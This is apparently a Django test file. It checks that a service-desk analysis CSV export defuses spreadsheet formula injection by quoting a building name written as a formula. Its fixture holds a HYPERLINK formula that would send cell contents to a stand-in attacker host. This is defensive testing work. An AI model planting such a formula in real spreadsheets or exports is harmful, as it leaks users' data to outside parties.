"""The analysis CSV is protected against formula injection like every other export."""

from django.urls import reverse
from django.utils import timezone

from tests.servicedesk.factories import TicketFactory


def test_the_analysis_csv_defuses_a_building_name_that_is_a_formula(client, general_manager):
    # given: a building whose name a spreadsheet would run
    ticket = TicketFactory()
    ticket.building.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ticket.building.save(update_fields=["name"])
    client.force_login(general_manager)
    # when
    response = client.get(
        reverse("servicedesk:analysis-csv"), {"year": timezone.localdate().year, "period": "month"}
    )
    # then: the cell starts with a quote, so it is text
    text = response.content.decode("utf-8-sig")
    assert response.status_code == 200
    assert "'=HYPERLINK" in text
    assert not any(cell.startswith("=") for line in text.splitlines() for cell in line.split(","))
